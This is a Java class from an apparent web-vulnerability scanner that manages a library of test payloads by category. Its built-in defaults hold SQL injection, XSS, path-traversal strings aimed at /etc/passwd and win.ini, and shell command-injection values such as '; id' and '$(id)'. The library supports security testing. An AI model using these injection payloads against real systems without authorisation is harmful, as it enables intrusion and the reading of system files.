package probe.payload;

import java.util.*;

/**
 * Immutable collection of payload strings per {@link PayloadCategory}.
 *
 * <p>The library starts from built-in defaults and can be rebuilt from a stored payload
 * document ({@code category key -> list of strings}). Unknown category keys are rejected
 * when the document is loaded, not when a run starts.
 */
public final class PayloadLibrary {

    private static final Map<PayloadCategory, List<String>> DEFAULT_PAYLOADS = createDefaults();

    private final Map<PayloadCategory, List<String>> payloads;

    private PayloadLibrary(Map<PayloadCategory, List<String>> payloads) {
        EnumMap<PayloadCategory, List<String>> copy = new EnumMap<>(PayloadCategory.class);
        for (PayloadCategory category : PayloadCategory.values()) {
            List<String> values = payloads.get(category);
            copy.put(category, values != null ? List.copyOf(values) : List.of());
        }
        this.payloads = Collections.unmodifiableMap(copy);
    }

    /**
     * Library with the built-in payload sets.
     */
    public static PayloadLibrary defaults() {
        return new PayloadLibrary(DEFAULT_PAYLOADS);
    }

    /**
     * Build a library from a stored document.
     *
     * @param document category key to payload list
     * @return library holding exactly the document's payloads
     * @throws IllegalArgumentException if the document names an unknown category or
     *                                  contains a null payload
     */
    public static PayloadLibrary fromDocument(Map<String, List<String>> document) {
        Map<PayloadCategory, List<String>> parsed = new EnumMap<>(PayloadCategory.class);
        if (document != null) {
            for (Map.Entry<String, List<String>> entry : document.entrySet()) {
                PayloadCategory category = PayloadCategory.fromKey(entry.getKey());
                List<String> values = entry.getValue() != null ? entry.getValue() : List.of();
                if (values.stream().anyMatch(Objects::isNull)) {
                    throw new IllegalArgumentException("Null payload in category '" + entry.getKey() + "'");
                }
                parsed.computeIfAbsent(category, c -> new ArrayList<>()).addAll(values);
            }
        }
        return new PayloadLibrary(parsed);
    }

    /**
     * Export as a document suitable for the payload store.
     */
    public Map<String, List<String>> toDocument() {
        Map<String, List<String>> document = new LinkedHashMap<>();
        payloads.forEach((category, values) -> document.put(category.getKey(), new ArrayList<>(values)));
        return document;
    }

    public List<String> get(PayloadCategory category) {
        return payloads.get(category);
    }

    /**
     * Payloads for the selected categories, in category declaration order then value order.
     *
     * @param categories categories to include; empty means all
     */
    public List<Payload> select(Collection<PayloadCategory> categories) {
        Set<PayloadCategory> selected = categories == null || categories.isEmpty()
            ? EnumSet.allOf(PayloadCategory.class)
            : EnumSet.copyOf(categories);

        List<Payload> result = new ArrayList<>();
        for (PayloadCategory category : selected) {
            for (String value : payloads.get(category)) {
                result.add(new Payload(category, value));
            }
        }
        return result;
    }

    public List<Payload> all() {
        return select(EnumSet.allOf(PayloadCategory.class));
    }

    /**
     * Copy of this library with one more payload appended to a category.
     */
    public PayloadLibrary withPayload(PayloadCategory category, String value) {
        Objects.requireNonNull(value, "value cannot be null");
        Map<PayloadCategory, List<String>> copy = new EnumMap<>(PayloadCategory.class);
        payloads.forEach((c, values) -> copy.put(c, new ArrayList<>(values)));
        copy.get(category).add(value);
        return new PayloadLibrary(copy);
    }

    public int size() {
        return payloads.values().stream().mapToInt(List::size).sum();
    }

    private static Map<PayloadCategory, List<String>> createDefaults() {
        Map<PayloadCategory, List<String>> defaults = new EnumMap<>(PayloadCategory.class);
        defaults.put(PayloadCategory.SQL, List.of(
            "'",
            "' OR '1'='1",
            "' OR 1=1--",
            "\" OR \"\"=\"",
            "admin'--",
            "') OR ('1'='1--",
            "1' AND SLEEP(5)--",
            "' UNION SELECT NULL--"
        ));
        defaults.put(PayloadCategory.XSS, List.of(
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "\"><script>alert(1)</script>",
            "javascript:alert(1)",
            "<svg onload=alert(1)>"
        ));
        defaults.put(PayloadCategory.PATH_TRAVERSAL, List.of(
            "../../../etc/passwd",
            "..\\..\\..\\windows\\win.ini",
            "....//....//....//etc/passwd",
            "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"
        ));
        defaults.put(PayloadCategory.COMMAND_INJECTION, List.of(
            "; id",
            "| id",
            "&& whoami",
            "`id`",
            "$(id)",
            "; sleep 5"
        ));
        return Collections.unmodifiableMap(defaults);
    }
}
